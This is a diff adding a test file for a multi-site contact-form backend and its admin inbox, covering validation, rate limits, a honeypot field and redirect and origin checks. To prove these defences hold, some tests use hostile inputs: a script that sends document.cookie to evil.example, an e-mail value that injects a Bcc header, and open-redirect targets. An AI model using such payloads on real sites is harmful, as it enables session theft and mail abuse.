@@ -1,0 +1,277 @@
+import { enquiryRecord, honeypotField, limits, ventures, type VentureId } from '@portal/contract';
+import { describe, expect, it } from 'vitest';
+import { cms, freshAddress, json, urlencoded, visitor, type Reply } from './connection.ts';
+import { currentRevision, expectFailure } from './records.ts';
+import { administrator } from './session.ts';
+
+const enquiry = {
+  name: 'Kavitha S',
+  email: 'kavitha@example.com',
+  phone: '+91 98400 00000',
+  enquiry: 'Arun Eats',
+  message: 'Do you cater for a wedding\nof 200 guests?',
+};
+
+const post = (fields: Readonly<Record<string, unknown>>, from = freshAddress()): Promise<Reply> =>
+  visitor('POST', '/contact/send', { body: json(fields), from });
+
+const postForm = (fields: Readonly<Record<string, string>>, from = freshAddress()): Promise<Reply> =>
+  visitor('POST', '/contact/send', {
+    body: urlencoded(fields),
+    from,
+    headers: { origin: cms.siteOrigin, accept: 'text/html,application/xhtml+xml' },
+  });
+
+const inbox = async () => enquiryRecord.array().parse((await administrator('GET', '/enquiries')).json);
+
+/** Sends an enquiry and answers the stored one. */
+async function stored(fields: Readonly<Record<string, unknown>>) {
+  const reply = await post(fields);
+  expect(reply.status, reply.text).toBe(200);
+  expect(reply.json).toEqual({ status: true });
+  const [newest] = await inbox();
+  if (newest === undefined) throw new Error('The inbox is empty.');
+  return newest;
+}
+
+/** The tags of the forms, and the site that each belongs to; two of them are written in the specification. */
+const tags: readonly (readonly [tag: string, venture: VentureId])[] = [
+  ['ArunGrit', 'grit'],
+  ['Arun Eats', 'eats'],
+  [ventures.institute.enquiryTag, 'institute'],
+  [ventures.infra.enquiryTag, 'infra'],
+  [ventures.agri.enquiryTag, 'agri'],
+  [ventures.agri.enquiryTagAfterReset, 'agri'],
+  [ventures.group.enquiryTag, 'group'],
+];
+
+describe('an enquiry', () => {
+  it.each(tags)('with the tag %s is stored before the reply and belongs to %s', async (tag, venture) => {
+    const revision = await currentRevision();
+    const record = await stored({ ...enquiry, enquiry: tag });
+    expect(record).toMatchObject({ ...enquiry, enquiry: tag, venture, read: false });
+    expect(Math.abs(Date.now() - Date.parse(record.createdAt))).toBeLessThan(60_000);
+    expect(await currentRevision()).toBe(revision);
+  });
+
+  it('resets the agri tag to one that differs slightly', () => {
+    const { enquiryTag, enquiryTagAfterReset } = ventures.agri;
+    expect(enquiryTagAfterReset).not.toBe(enquiryTag);
+    expect(enquiryTagAfterReset.replaceAll(' ', '')).toBe(enquiryTag.replaceAll(' ', ''));
+  });
+
+  it('with an unknown tag, or none, is not lost', async () => {
+    for (const tag of ['Something else', '', undefined, null]) {
+      const record = await stored({ ...enquiry, enquiry: tag });
+      expect(record.venture).toBe('group');
+      expect(record.enquiry).toBe(tag ?? '');
+    }
+  });
+
+  it.each(['name', 'email', 'message'])('needs its %s', async (field) => {
+    const before = (await inbox()).length;
+    for (const value of [undefined, '', '   ', null]) {
+      const told = expectFailure(await post({ ...enquiry, [field]: value }), 400);
+      expect(told.fields).toHaveProperty(field);
+    }
+    expect(await inbox()).toHaveLength(before);
+  });
+
+  it.each(tags)(
+    'with the tag %s needs a phone number only for two of the sites (%s)',
+    async (tag, venture) => {
+      const reply = await post({ ...enquiry, enquiry: tag, phone: ' ' });
+      if (venture === 'institute' || venture === 'grit') {
+        expect(expectFailure(reply, 400).fields).toHaveProperty('phone');
+      } else {
+        expect(reply.status, reply.text).toBe(200);
+      }
+    },
+  );
+
+  it('needs an e-mail address that looks like one', async () => {
+    for (const email of [
+      'nobody',
+      'a@b',
+      'a@example.com\r\nBcc: everyone@example.com',
+      'a@example.com, b@example.com',
+    ]) {
+      const told = expectFailure(
+        await post({ ...enquiry, email }),
+        400,
+        'Please enter a valid email address.',
+      );
+      expect(told.fields).toHaveProperty('email');
+    }
+  });
+
+  it.each([
+    ['name', 255],
+    ['phone', 255],
+    ['enquiry', 255],
+    ['message', 10_000],
+  ] as const)('takes a %s of %d characters and not more', async (field, length) => {
+    expect((await stored({ ...enquiry, [field]: 'அ'.repeat(length) }))[field]).toHaveLength(length);
+    expect(
+      expectFailure(await post({ ...enquiry, [field]: 'x'.repeat(length + 1) }), 400).fields,
+    ).toHaveProperty(field);
+  });
+
+  it('keeps script as text and trims', async () => {
+    const script = '<script>fetch("//evil.example/?"+document.cookie)</script>';
+    expect(await stored({ ...enquiry, name: ` ${script} `, message: script })).toMatchObject({
+      name: script,
+      message: script,
+    });
+  });
+
+  it('cannot choose what the inbox says of it', async () => {
+    const record = await stored({
+      ...enquiry,
+      id: 1,
+      read: true,
+      venture: 'infra',
+      createdAt: '2001-01-01T00:00:00Z',
+    });
+    expect(record).toMatchObject({ read: false, venture: 'eats' });
+    expect(record.createdAt).not.toMatch(/^2001/);
+  });
+
+  it('of a robot that fills the hidden field is thanked and forgotten', async () => {
+    const before = (await inbox()).length;
+    const reply = await post({ ...enquiry, [honeypotField]: 'https://casino.example' });
+    expect(reply.status).toBe(200);
+    expect(reply.json).toEqual({ status: true });
+    expect(await inbox()).toHaveLength(before);
+  });
+
+  it('is one of five that an address may send for a while', async () => {
+    const from = freshAddress();
+    for (let sent = 0; sent < limits.enquiries; sent += 1) {
+      expect((await post(enquiry, from)).status).toBe(200);
+    }
+    const before = (await inbox()).length;
+    const reply = await post(enquiry, from);
+    const told = expectFailure(reply, 429);
+    expect(told.error).toMatch(/^Too many tries\. Please wait \d+ (seconds|minutes) and try again\.$/);
+    const wait = Number(reply.headers['retry-after']);
+    expect(wait).toBeGreaterThan(0);
+    expect(wait).toBeLessThanOrEqual(limits.enquiryWindowMs / 1000);
+    expect(await inbox()).toHaveLength(before);
+    expect((await post(enquiry)).status).toBe(200);
+  });
+
+  it('is counted by the connection, not by a header that anyone can write', async () => {
+    const from = freshAddress();
+    const statuses: number[] = [];
+    for (let sent = 0; sent <= limits.enquiries; sent += 1) {
+      const reply = await visitor('POST', '/contact/send', {
+        body: json(enquiry),
+        from,
+        headers: { 'x-forwarded-for': `203.0.113.${sent}` },
+      });
+      statuses.push(reply.status);
+    }
+    expect(statuses.at(-1)).toBe(429);
+  });
+});
+
+describe('an ordinary form post', () => {
+  it.each(tags)('with the tag %s leads to the thank-you page of %s', async (tag, venture) => {
+    const before = (await inbox()).length;
+    const reply = await postForm({ ...enquiry, enquiry: tag });
+    expect(reply.status, reply.text).toBe(303);
+    expect(reply.headers.location).toBe(`${cms.siteOrigin}${ventures[venture].contact}-thanks`);
+    const now = await inbox();
+    expect(now).toHaveLength(before + 1);
+    expect(now[0]).toMatchObject({ name: enquiry.name, venture });
+  });
+
+  it('that cannot be taken says why on a page, and runs nothing that it was sent', async () => {
+    const reply = await postForm({ ...enquiry, message: '', name: '<script>alert(1)</script>' });
+    expect(reply.status).toBe(400);
+    expect(reply.headers['content-type']).toMatch(/^text\/html/);
+    expect(reply.text).toContain('Please write a message.');
+    expect(reply.text).not.toContain('<script>alert');
+    expect(reply.text).toContain(ventures.eats.contact);
+  });
+
+  it('sends no one anywhere else', async () => {
+    const reply = await postForm({ ...enquiry, redirect: '//evil.example', next: 'http://evil.example' });
+    expect(reply.status).toBe(303);
+    expect(reply.headers.location?.startsWith(`${cms.siteOrigin}/`)).toBe(true);
+  });
+
+  it('waits like the others', async () => {
+    const from = freshAddress();
+    for (let sent = 0; sent < limits.enquiries; sent += 1) await postForm(enquiry, from);
+    const reply = await postForm(enquiry, from);
+    expect(reply.status).toBe(429);
+    expect(reply.headers['content-type']).toMatch(/^text\/html/);
+    expect(Number(reply.headers['retry-after'])).toBeGreaterThan(0);
+    expect(reply.text).toMatch(/Too many tries/);
+  });
+
+  it('of another site is refused', async () => {
+    const reply = await visitor('POST', '/contact/send', {
+      body: urlencoded(enquiry),
+      from: freshAddress(),
+      headers: { origin: 'http://evil.example' },
+    });
+    expect(reply.status).toBe(403);
+  });
+});
+
+describe('the inbox', () => {
+  it('has the newest first', async () => {
+    const first = await stored({ ...enquiry, name: 'First' });
+    const second = await stored({ ...enquiry, name: 'Second' });
+    expect((await inbox()).slice(0, 2).map(({ id }) => id)).toEqual([second.id, first.id]);
+  });
+
+  it('answers one enquiry', async () => {
+    const { id } = await stored(enquiry);
+    const reply = await administrator('GET', `/enquiries/${id}`);
+    expect(reply.status).toBe(200);
+    expect(enquiryRecord.parse(reply.json)).toEqual((await inbox())[0]);
+  });
+
+  it('marks an enquiry as read and unread, and changes nothing else of it', async () => {
+    const record = await stored(enquiry);
+    const revision = await currentRevision();
+    for (const read of [true, false]) {
+      const body = json({ read, name: 'Somebody else', message: 'Something else' });
+      const reply = await administrator('PUT', `/enquiries/${record.id}`, { body });
+      expect(reply.status, reply.text).toBe(200);
+      expect(reply.json).toMatchObject({
+        id: record.id,
+        status: true,
+        read,
+        name: record.name,
+        message: record.message,
+      });
+    }
+    for (const value of [undefined, 'yes', 1, null]) {
+      const body = json({ read: value });
+      expectFailure(await administrator('PUT', `/enquiries/${record.id}`, { body }), 400);
+    }
+    expect(await currentRevision()).toBe(revision);
+  });
+
+  it('deletes an enquiry', async () => {
+    const { id } = await stored(enquiry);
+    const revision = await currentRevision();
+    const reply = await administrator('DELETE', `/enquiries/${id}`);
+    expect(reply.status).toBe(200);
+    expect(reply.json).toEqual({ status: true, id });
+    expectFailure(await administrator('GET', `/enquiries/${id}`), 404);
+    expect(await currentRevision()).toBe(revision);
+  });
+
+  it('is not part of the content', async () => {
+    await stored(enquiry);
+    const reply = await visitor('GET', '/content');
+    expect(reply.text).not.toContain(enquiry.email);
+    expect(reply.text).not.toContain('enquiries');
+  });
+});
